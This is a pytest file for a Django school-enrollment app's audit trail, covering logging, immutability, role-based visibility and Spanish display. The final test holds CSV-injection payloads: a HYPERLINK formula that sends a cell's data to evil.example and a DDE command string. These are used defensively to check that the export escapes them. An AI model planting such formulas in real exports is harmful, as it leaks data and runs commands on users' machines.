"""The audit trail: every change, by whatever code, with who and why."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.db import Error, connection, transaction

pytestmark = pytest.mark.django_db


def test_a_change_by_a_person_has_who_where_and_why(signed_in, round_):
    from citycompact.web.site.trail import events

    office = signed_in("office")
    data = {
        "name": "Renamed",
        "opens_at": "2026-11-01T08:00",
        "closes_at": "2027-02-01T23:59",
        "grades": ["K"],
        "rulebook": round_.rulebook_id,
        "why": "typo in the name",
    }
    office.post(f"/office/round/{round_.pk}/edit/", data)
    event = next(events(kind="round"))
    assert (event["person"], event["why"], event["route"]) == (
        "Amina Yusuf",
        "typo in the name",
        "enrollment:edit_round",
    )
    assert event["content"]["name"] == "Renamed"
    page = office.get("/office/trail/?q=typo").content.decode()
    assert "typo in the name" in page


def test_a_change_that_goes_past_the_application_is_in_the_trail_too(application):
    from citycompact.web.site.trail import events

    with connection.cursor() as cursor:
        cursor.execute(
            "update enrollment_child set given_name = 'Changed' where applicant_id = %s",
            [application.child_id],
        )
        cursor.execute("delete from enrollment_guardian where child_id = %s", [application.child_id])
    found = list(events(application.child_id, limit=10))
    assert ("child", "update") in {(e["kind"], e["label"]) for e in found}
    assert any(e["kind"] == "guardian" and e["label"] == "delete" for e in events(kind="guardian", limit=5))


@pytest.mark.parametrize(
    "statement", ["delete from enrollment_childevent", "update enrollment_childevent set given_name = 'x'"]
)
def test_the_trail_itself_cannot_be_changed(statement, application):
    application.child.save()
    with pytest.raises(Error), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(statement)


def test_a_submitted_version_cannot_be_changed(application):
    with pytest.raises(Error), transaction.atomic():
        application.versions.update(content={})


def test_the_auditor_takes_the_whole_trail_and_can_change_nothing(signed_in, round_):
    auditor = signed_in("auditor")
    lines = b"".join(auditor.get("/office/trail.csv").streaming_content).decode().splitlines()
    assert lines[0].startswith("at,kind,label,object,who")
    assert len(lines) > 300
    for path in ("freeze/", "draw/", "what-if/", "propose/", "publish/"):
        assert auditor.post(f"/decisions/match/{round_.pk}/{path}").status_code == 403
    assert auditor.post(f"/office/round/{round_.pk}/edit/").status_code == 403
    assert signed_in("office").get("/office/trail.csv").status_code == 403


def test_the_keys_of_signers_schools_reserves_scores_and_accounts_are_in_the_trail(application):
    from citycompact.web.city.models import City, Operator, Program, Reserve, School
    from citycompact.web.enrollment.models import Score
    from citycompact.web.site.models import User
    from citycompact.web.site.trail import events

    city, program = City.objects.get(), Program.objects.first()
    city.signers = [{**city.signers[0], "name": "Somebody else"}, *city.signers[1:]]
    city.save()
    Operator.objects.filter(pk=program.school.operator_id).update(sector="charter", name="Turned")
    School.objects.filter(pk=program.school_id).update(name="Renamed")
    Reserve.objects.create(program=program, position=9, group="sibling", seats=1)
    Score.objects.create(child=application.child, program=program, score=3)
    User.objects.filter(email="parent@demo.example").update(phone="+1 555 0100")
    for kind, word in (
        ("city", "Somebody else"),
        ("operator", "Turned"),
        ("school", "Renamed"),
        ("reserve", "sibling"),
        ("score", application.child_id),
        ("account", "+1 555 0100"),
    ):
        newest = next(events(kind=kind))
        assert word in str(newest["content"]), kind
    assert "password" not in newest["content"], "no hash of a password is copied"


def test_each_role_reads_what_is_declared_for_it(signed_in):
    from citycompact.web.site.trail import seen_by

    office, steward, auditor = (
        {seen.kind for seen in seen_by({role}).values()} for role in ("office", "steward", "auditor")
    )
    assert auditor == office | steward
    assert {"child", "city", "account"} <= office - steward
    assert {"promise", "interview"} <= steward - office
    page = signed_in("steward").get("/office/trail/").content.decode()
    assert "interview" in page
    assert "guardian" not in page


def test_nobody_sees_in_the_trail_who_answered_a_survey():
    from citycompact.web.compact.models import SurveyAnswer, SurveyTicket
    from citycompact.web.declarations import trail_tables

    assert not {SurveyAnswer, SurveyTicket} & set(trail_tables())


def test_the_trail_is_read_and_searched_in_spanish(signed_in, round_):
    round_.save()
    client = signed_in("office")
    client.cookies["django_language"] = "es"
    page = client.get("/office/trail/", {"kind": "round"}).content.decode()
    assert '<option value="round" selected>ronda</option>' in page
    assert "ronda: " in page
    assert "round: " not in page
    shown = re.findall(r'<option value="([^"]+)" +>([^<]+)</option>', page)
    assert dict(shown).items() >= {"school": "escuela", "child": "niño o niña"}.items()
    assert [said for _, said in shown] == sorted(said for _, said in shown)


def test_a_note_of_the_steward_is_no_auditors_in_the_trail_either(signed_in):
    from citycompact.web.compact.models import Promise

    promise = Promise.objects.get(pk="guide")
    promise.private_note = "zzsecret of the steward"
    promise.pledge = "One guide shows every school, zzpublic."
    promise.save()
    auditor, steward = signed_in("auditor"), signed_in("steward")
    for word, who, there in (
        ("zzpublic", auditor, True),
        ("zzsecret", steward, True),
        ("zzsecret", auditor, False),
    ):
        page = who.get("/office/trail/", {"q": word}).content.decode().split("<tbody>")[1]
        assert ("guide" in page) is there, word
    assert "zzsecret" not in auditor.get("/office/trail/", {"q": "zzpublic"}).content.decode()
    whole = b"".join(auditor.get("/office/trail.csv").streaming_content).decode()
    assert "zzpublic" in whole
    assert "zzsecret" not in whole
    assert "private_note" not in whole


def test_the_trail_as_csv_holds_no_formula(signed_in, family):
    client = signed_in("family")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    client.post("/family/profile/", {"name": formula, "language": "en", "phone": "", "why": "=cmd|calc!A1"})
    whole = b"".join(signed_in("auditor").get("/office/trail.csv").streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(whole)) for cell in row]
    assert f"'{formula}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
